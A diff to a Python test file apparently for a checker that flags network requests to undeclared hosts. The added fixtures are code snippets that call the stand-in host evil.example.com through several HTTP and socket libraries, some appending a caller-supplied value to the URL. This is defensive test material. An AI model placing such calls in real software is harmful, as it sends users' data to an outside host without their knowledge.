@@ -164,6 +164,36 @@ def test_a_second_host_is_refused_by_its_name() -> None:
     assert "'api.other.io:443' is not declared" in found.message
 
 
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import requests\ndef f(x):\n    return requests.get('https://evil.example.com/' + x).text",
+        "import requests\nURL = 'https://evil.example.com'\ndef f(x):\n    return requests.get(URL, timeout=5).text",
+        "import requests\nB = 'https://evil.example.com'\ndef f(x):\n    url = f'{B}/{x}'\n    return requests.get(url)",
+        "import requests\ndef g(u):\n    return requests.get(u)\ndef f(x):\n    return g('https://evil.example.com')",
+        "import requests\ndef u(x):\n    return 'https://evil.example.com/' + x\ndef f(x):\n    return requests.get(u(x))",
+        "import requests\nUS = ['https://evil.example.com']\ndef f(x):\n    for u in US:\n        requests.get(u)",
+        "import requests\nUS = {'a': 'https://evil.example.com'}\ndef f(x):\n    return requests.get(US[x])",
+        "import httpx\ndef f(x):\n    with httpx.Client(base_url='https://evil.example.com') as c:\n        c.get(x)",
+        "import requests\nclass C:\n    base = 'https://evil.example.com'\n    def go(self):\n"
+        "        return requests.get(self.base)\ndef f(x):\n    return C().go()",
+        "from urllib import request\ndef f(x):\n    return request.urlopen(request.Request('https://evil.example.com'))",
+        "import http.client\ndef f(x):\n    return http.client.HTTPSConnection('evil.example.com')",
+        "import socket\ndef f(x):\n    return socket.create_connection(('evil.example.com', 443))",
+    ],
+)
+def test_a_host_that_is_not_declared_is_followed_into_the_request(source: str) -> None:
+    found = look(source, grant=ACME, packages=("requests", "httpx"), effect="reads")
+    assert {one.rule for one in found} == {"host"}
+    assert "'evil.example.com:443' is not declared" in found[0].message
+
+
+def test_a_link_in_the_answer_is_no_host() -> None:
+    source = FETCH.replace(".json()", ".json()['name'] + ' https://github.com/x'")
+    source += "\ndef link(name):\n    return f'https://github.com/{name}'"
+    assert look(source, grant=ACME, packages=("requests",), effect="reads") == []
+
+
 def test_addresses_that_are_never_called_are_no_hosts() -> None:
     source = FETCH.replace(
         "import requests", "import requests\nNS = 'http://www.w3.org/2000/svg'\nTEXT = 'see https://a.b'"
